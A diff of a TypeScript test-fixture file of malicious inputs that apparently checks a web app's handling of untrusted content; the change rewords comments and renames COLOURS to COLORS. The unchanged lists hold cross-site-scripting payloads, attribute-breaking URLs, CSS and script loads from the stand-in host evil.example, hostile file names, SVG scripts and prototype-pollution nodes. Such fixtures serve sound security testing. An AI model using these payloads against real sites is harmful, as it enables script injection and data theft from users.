@@ -1,9 +1,9 @@
 /**
- * What somebody types who means harm. Each would, where it worked, open a dialog, set `window.pwned` or ask
- * evil.example for something: journeys look for all three.
+ * Malicious input. Each entry would open a dialog, set `window.pwned` or send a request to evil.example if it worked;
+ * journeys check for all three.
  */
 
-/** Words that would become markup or script: for names, titles, texts, alternatives, tags and notes. */
+/** Text that would become markup or script: for names, titles, texts, alternative texts, tags and notes. */
 export const MARKUP = [
   '<script>alert(1)</script>',
   '<script src=https://evil.example/x.js></script>',
@@ -104,7 +104,7 @@ export const ADDRESSES = [
   'jar:https://evil.example!/x',
 ] as const;
 
-/** Addresses of pages that would break out of the attribute they are printed in. */
+/** URLs that would break out of the attribute they are printed in. */
 export const CROOKED_PAGES = [
   'https://example.com/?q="><script>window.pwned=1</script>',
   "https://example.com/'onmouseover='window.pwned=1",
@@ -113,7 +113,7 @@ export const CROOKED_PAGES = [
   'https://example.com/`onload=`window.pwned=1',
 ] as const;
 
-/** Style rules that would ask another host, or cover what is not the creator's. */
+/** CSS that would load from another host, or cover what is not the creator's. */
 export const STYLES = [
   '@import url(https://evil.example/x.css);',
   '@import "https://evil.example/x.css";',
@@ -139,8 +139,8 @@ export const STYLES = [
   '/* </style><script>window.pwned=1</script> */',
 ] as const;
 
-/** What no theme takes for a colour. */
-export const COLOURS = [
+/** Invalid theme colors. */
+export const COLORS = [
   'red}body{display:none}',
   'url(https://evil.example/x)',
   '#fff;background:url(https://evil.example)',
@@ -150,7 +150,7 @@ export const COLOURS = [
   '</style><script>',
 ] as const;
 
-/** Names of files as a hostile browser sends them. */
+/** File names that a malicious client sends. */
 export const FILE_NAMES = [
   '<img src=x onerror=window.pwned=1>.pdf',
   '"><script>window.pwned=1<.script>.pdf',
@@ -167,7 +167,7 @@ export const FILE_NAMES = [
 const script = (text: string, marks: object[] = []) => ({ type: 'text', text, marks });
 const paragraph = (...content: object[]) => ({ type: 'doc', content: [{ type: 'paragraph', content }] });
 
-/** Documents of an editor that is none of ours. */
+/** Documents that our editor did not create. */
 export const DOCUMENTS = [
   paragraph(script('<script>window.pwned=1</script>')),
   paragraph(script('x', [{ type: 'link', attrs: { href: 'javascript:window.pwned=1' } }])),
@@ -186,7 +186,7 @@ export const DOCUMENTS = [
   { type: '__proto__', content: [] },
 ] as const;
 
-/** Files that are no picture, whatever they call themselves. */
+/** Files that are not images, whatever their name. */
 export const FALSE_PICTURES = [
   '<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>',
   '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=1</script></svg>',
@@ -198,7 +198,7 @@ export const FALSE_PICTURES = [
   '\u0000\u0000\u0000<script>window.pwned=1</script>',
 ] as const;
 
-/** Custom HTML that reaches for the page around it, and for whoever looks at it. */
+/** Custom HTML that tries to reach the page around it and its visitor. */
 export const FRAMES = [
   '<script>parent.pwned=1</script>',
   '<script>top.document.body.innerHTML="gone"</script>',
